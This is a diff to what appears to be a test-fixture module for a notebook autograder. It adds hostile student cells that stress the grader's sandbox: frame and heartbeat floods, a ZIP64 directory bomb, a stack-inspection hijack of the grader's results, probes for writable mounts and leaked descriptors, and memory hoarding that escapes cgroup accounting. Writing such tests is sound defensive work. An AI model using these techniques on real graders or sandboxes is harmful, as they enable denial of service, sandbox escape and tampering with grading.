@@ -15,6 +15,7 @@ a zip bomb) are made by the tests in tmp_path with the functions below.
 from __future__ import annotations
 
 import argparse
+import struct
 import sys
 import textwrap
 import zipfile
@@ -132,6 +133,35 @@ CELLS: dict[str, str] = {
     ),
 }
 """Scenario name -> the hostile cell appended to the correct Q2 notebook."""
+
+
+def _frame_flood(count: int, megabytes: int, why: str) -> str:
+    """A cell sending one output message of ``count`` binary frames of ``megabytes`` MiB."""
+    return (
+        f"# One output message of {count} binary frames of {megabytes} MiB: {why}\n"
+        "kernel = get_ipython().kernel\n"
+        f"blob = memoryview(b'x' * ({megabytes} << 20))\n"
+        "content = {'name': 'stdout', 'text': 'hi'}\n"
+        f"frames = [blob] * {count}\n"
+        "kernel.session.send(\n"
+        "    kernel.iopub_socket, 'stream', content, kernel.get_parent(), buffers=frames\n"
+        ")\n"
+    )
+
+
+CELLS.update(
+    {
+        "multiframe_flood": _frame_flood(
+            40, 30, "each over the grader's per-frame limit (8 MiB), 1.2 GB together."
+        ),
+        "multipart_flood": _frame_flood(
+            200,
+            4,
+            "every frame under the grader's per-frame limit (8 MiB), 800 MiB together,\n"
+            "# which libzmq holds whole before the grader reads the first frame.",
+        ),
+    }
+)
 
 CELLS.update(
     {
@@ -346,16 +376,6 @@ CELLS.update(
                         for i in range(1000):
                             archive.writestr(f"junk-{i}.json", "1")
                         archive.writestr("state.npz", npy)
-
-
-                def activation_variance(n_in, sigma2, v2):
-                    for frame in inspect.stack():
-                        ctx = frame.frame.f_locals.get("ctx")
-                        if ctx is not None and hasattr(ctx, "export"):
-                            archive = ctx.export.get("archive")
-                            ctx._pack = lambda: hostile_results(archive)
-                            hostile_results(archive)
-                    return n_in * sigma2 * v2
             """,
             "huge_error": """
                 # A 50 MB exception message: an error is always recorded, but never whole.
@@ -365,16 +385,6 @@ CELLS.update(
                 # A 50 MB reply on the request channel itself (a "next input" payload): past the
                 # size limit, ZMQ drops it with its connection, which the grader must restore.
                 get_ipython().set_next_input("x" * (50 << 20))
-            """,
-            "multiframe_flood": """
-                # One output message of 40 binary frames, 30 MB each: every frame under a
-                # per-frame limit, 1.2 GB together.
-                kernel = get_ipython().kernel
-                blob = memoryview(b"x" * (30 << 20))
-                content = {"name": "stdout", "text": "hi"}
-                parent = kernel.get_parent()
-                frames = [blob] * 40
-                kernel.session.send(kernel.iopub_socket, "stream", content, parent, buffers=frames)
             """,
             "malformed_message": """
                 # Raw bytes on the output channel that are no Jupyter message at all.
@@ -439,9 +449,278 @@ CELLS.update(
                 # A classmate's kernel that stays alive while another kernel of the batch runs.
                 time.sleep(VICTIM_SECONDS)
             """,
+            "heartbeat_takeover": """
+                import json
+                import os
+                import socket
+                import stat
+
+                # The grader's heartbeat connection, taken over from the kernel's own heartbeat
+                # (which is left talking to a dead end) and its ping answered with a frame of
+                # 1 GiB: the heartbeat socket of jupyter_client has no size limit.
+                info = json.load(open("/run/dlgrade/connection.json"))
+                suffix = f"-{info['hb_port']}"
+                taken = None
+                for fd in map(int, os.listdir("/proc/self/fd")):
+                    try:
+                        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
+                            continue
+                        candidate = socket.socket(fileno=os.dup(fd))
+                    except OSError:
+                        continue
+                    name = candidate.getsockname()
+                    listening = candidate.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
+                    if isinstance(name, str) and name.endswith(suffix) and not listening:
+                        dead_end, _ = socket.socketpair()
+                        os.dup2(dead_end.fileno(), fd)
+                        taken = candidate
+                        break
+                    candidate.close()
+                sent = 0
+                if taken is not None:
+                    taken.setblocking(True)
+                    size = 1 << 30
+                    try:
+                        taken.sendall(b"\\x01\\x00\\x02" + size.to_bytes(8, "big"))
+                        block = b"\\0" * (1 << 20)
+                        while sent < size:
+                            sent += taken.send(block)
+                    except OSError:
+                        pass
+                found = {"connected": taken is not None, "sent_mb": sent >> 20}
+                print("HEARTBEAT " + json.dumps(found))
+            """,
+            "zip64_directory": """
+                import inspect
+                import struct
+
+
+                # When the grader's probe calls this function, replace its results file with an
+                # archive whose end record lists no entry and whose ZIP64 end record lists one
+                # per 47 bytes of the file (as many as the file-size limit allows): zipfile
+                # trusts the ZIP64 record and builds an object for every entry.
+                def directory_bomb(path):
+                    name = b"formulas.json"
+                    entry = struct.pack(
+                        "<4s4B4HL2L5H2L", b"PK\\x01\\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0,
+                        len(name), 0, 0, 0, 0, 0, 0,
+                    ) + name
+                    count = (MAX_FILE_MB << 20) // (2 * len(entry))
+                    directory = entry * count
+                    zip64 = struct.pack(
+                        "<4sQ2H2L4Q", b"PK\\x06\\x06", 44, 45, 45, 0, 0, count, count,
+                        len(directory), 0,
+                    )
+                    locator = struct.pack("<4sLQL", b"PK\\x06\\x07", 0, len(directory), 1)
+                    end = struct.pack("<4s4H2LH", b"PK\\x05\\x06", 0, 0, 0, 0, 0, 0, 0)
+                    with open(path, "wb") as fh:
+                        fh.write(directory + zip64 + locator + end)
+            """,
+            "writable_mounts": """
+                import json
+                import os
+
+                # Every mount of the kernel's file system: in which can it make a file? Only in
+                # the folders of its disk budget, if the sandbox is default-deny.
+                writable = []
+                mounts = sorted({line.split()[4] for line in open("/proc/self/mountinfo")})
+                for point in mounts:
+                    probe = os.path.join(point, ".dlgrade-write-probe")
+                    try:
+                        with open(probe, "w") as fh:
+                            fh.write("x")
+                        os.unlink(probe)
+                        writable.append(point)
+                    except OSError:
+                        pass
+                print("WRITABLE " + json.dumps({"mounts": len(mounts), "writable": writable}))
+            """,
+            "inherited_descriptors": """
+                import json
+                import os
+                import stat
+
+                # Every descriptor the kernel and the sandbox's first process hold: one opened on
+                # a host file or folder (a staged bind source, the grader's socket folder) would
+                # reach past the sandbox's root through /proc/<pid>/fd/<n>/..
+                kinds, outside = {}, []
+                for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+                    folder = f"/proc/{pid}/fd"
+                    try:
+                        fds = os.listdir(folder)
+                    except OSError:
+                        continue
+                    for fd in fds:
+                        path = f"{folder}/{fd}"
+                        try:
+                            mode = os.stat(path).st_mode
+                            target = os.readlink(path)
+                        except OSError:
+                            continue
+                        kind = "other"
+                        if stat.S_ISREG(mode) or stat.S_ISDIR(mode):
+                            kind = "file" if stat.S_ISREG(mode) else "folder"
+                        kinds[kind] = kinds.get(kind, 0) + 1
+                        if kind == "other":
+                            continue
+                        inside = target.startswith(("/workspace/", "/tmp/", "/dev/shm/", "/proc/"))
+                        if not inside:
+                            outside.append(target)
+                print("DESCRIPTORS " + json.dumps({"kinds": kinds, "outside": outside}))
+            """,
+            "hoard_socket_buffers": """
+                import json
+                import socket
+                import time
+
+                # Memory in unix socket buffers: no process's memory, no file. Buffers raised to
+                # the system's maximum where the kernel may, else at their default size.
+                pairs, held = [], 0
+                chunk = b"\\0" * (1 << 16)
+                try:
+                    while held < HOARD_MB << 20:
+                        a, b = socket.socketpair()
+                        pairs.append((a, b))
+                        for end, option in ((a, socket.SO_SNDBUF), (b, socket.SO_RCVBUF)):
+                            try:
+                                end.setsockopt(socket.SOL_SOCKET, option, 64 << 20)
+                            except OSError:
+                                pass
+                        a.setblocking(False)
+                        try:
+                            while True:
+                                held += a.send(chunk)
+                        except BlockingIOError:
+                            pass
+                except OSError as exc:
+                    print("stopped:", exc)
+                time.sleep(2)  # eight looks of a watchdog
+                print("HOARD " + json.dumps({"held_mb": held >> 20, "pairs": len(pairs)}))
+                for pair in pairs:
+                    for end in pair:
+                        end.close()
+            """,
+            "hoard_loopback_tcp": """
+                import json
+                import socket
+                import time
+
+                # Memory in the TCP buffers of the sandbox's own loopback (grown by the kernel's
+                # autotuning, no option set): charged to no memory cgroup.
+                server = socket.socket()
+                server.bind(("127.0.0.1", 0))
+                server.listen(1024)
+                pairs, held = [], 0
+                chunk = b"\\0" * (1 << 20)
+                while held < HOARD_MB << 20 and len(pairs) < 900:
+                    a = socket.create_connection(server.getsockname())
+                    b, _ = server.accept()
+                    a.setblocking(False)
+                    stalls = 0
+                    while stalls < 3:
+                        try:
+                            held += a.send(chunk)
+                            stalls = 0
+                        except BlockingIOError:
+                            stalls += 1
+                            time.sleep(0.01)
+                    pairs.append((a, b))
+                time.sleep(2)
+                print("HOARD " + json.dumps({"held_mb": held >> 20, "pairs": len(pairs)}))
+                for pair in pairs:
+                    for end in pair:
+                        end.close()
+            """,
+            "hoard_sysv_segments": """
+                import ctypes
+                import json
+                import time
+
+                # System V shared memory in segments of 100 MB, each detached once written: the
+                # pages stay in the segment, in no process's memory.
+                libc = ctypes.CDLL(None, use_errno=True)
+                libc.shmat.restype = ctypes.c_void_p
+                piece, ids = 100 << 20, []
+                while len(ids) * 100 < HOARD_MB:
+                    segment = libc.shmget(0, ctypes.c_size_t(piece), 0o1000 | 0o600)
+                    if segment < 0:
+                        raise OSError(ctypes.get_errno(), "shmget refused")
+                    address = libc.shmat(segment, None, 0)
+                    ctypes.memset(address, 1, piece)
+                    libc.shmdt(ctypes.c_void_p(address))
+                    ids.append(segment)
+                time.sleep(2)
+                print("HOARD " + json.dumps({"held_mb": len(ids) * 100}))
+                for segment in ids:
+                    libc.shmctl(segment, 0, None)  # IPC_RMID
+            """,
+            "hoard_files_in_flight": """
+                import json
+                import os
+                import socket
+                import time
+
+                # Anonymous files of 8 MB (the file-size limit), each sent over a unix socket to
+                # the kernel itself and closed: in flight, a file is in no descriptor table.
+                a, b = socket.socketpair()
+                block = b"\\0" * (1 << 20)
+                held = 0
+                while held < HOARD_MB:
+                    fd = os.memfd_create("hoard")
+                    for _ in range(8):
+                        os.write(fd, block)
+                    socket.send_fds(a, [b"x"], [fd])
+                    os.close(fd)
+                    held += 8
+                time.sleep(2)
+                print("HOARD " + json.dumps({"held_mb": held}))
+            """,
+            "hoard_page_tables": """
+                import json
+                import mmap
+                import time
+
+                # Page tables: a read-only private mapping touched once every 2 MiB maps the
+                # shared zero page (no resident memory) and costs a 4 KiB page table each time.
+                step = 2 << 20
+                count = (HOARD_MB << 20) // 4096
+                flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
+                region = mmap.mmap(-1, step * count, flags=flags, prot=mmap.PROT_READ)
+                total = sum(region[i * step] for i in range(count))
+                time.sleep(2)
+                print("HOARD " + json.dumps({"held_mb": count * 4096 >> 20}))
+            """,
         }.items()
     }
 )
+
+
+def _takes_over_the_results(writer: str) -> str:
+    """The end of a cell whose probed function, when the grader's probe calls it, finds the
+    probe's context on the stack and has ``writer(path)`` write every later results file."""
+    return textwrap.dedent(
+        f"""
+
+
+        def activation_variance(n_in, sigma2, v2):
+            for frame in inspect.stack():
+                ctx = frame.frame.f_locals.get("ctx")
+                if ctx is not None and hasattr(ctx, "export"):
+                    archive = ctx.export.get("archive")
+                    ctx._pack = lambda: {writer}(archive)
+                    {writer}(archive)
+            return n_in * sigma2 * v2
+        """
+    )
+
+
+CELLS["forged_probe_results"] = CELLS["forged_probe_results"].rstrip(
+    "\n"
+) + _takes_over_the_results("hostile_results")
+CELLS["zip64_directory"] = CELLS["zip64_directory"].rstrip("\n") + _takes_over_the_results(
+    "directory_bomb"
+)
+
 
 BLANK_CELLS: dict[str, str] = {
     "steal_solutions": textwrap.dedent(
@@ -513,6 +792,33 @@ def write_zip_slip(path: Path) -> Path:
         zf.writestr(f"sub/{NOTEBOOK}", good)
         zf.writestr(f"../../escaped-{PLANTED}.ipynb", good)
         zf.writestr(f"/tmp/absolute-{PLANTED}.ipynb", good)
+    return path
+
+
+def zip_directory_bomb(entries: int, *, zip64: bool = True) -> bytes:
+    """An archive of nothing but a central directory of ``entries`` entries (46 bytes each,
+    no data), announced by a ZIP64 end record while the ordinary one says 0 (``zip64``), or by
+    the ordinary one alone (its 16-bit count wrapped, its 32-bit size honest)."""
+    entry = struct.pack(
+        "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0
+    )
+    directory = entry * entries
+    if not zip64:
+        count = entries & 0xFFFF
+        return directory + struct.pack(
+            "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), 0, 0
+        )
+    record = struct.pack(
+        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, len(directory), 0
+    )
+    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(directory), 1)
+    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0, 0, 0, 0, 0)
+    return directory + record + locator + end
+
+
+def write_zip_directory_bomb(path: Path, entries: int = 1_000_000, *, zip64: bool = True) -> Path:
+    """A submission zip of ``zip_directory_bomb`` (47 MB for a million entries)."""
+    path.write_bytes(zip_directory_bomb(entries, zip64=zip64))
     return path
 
 
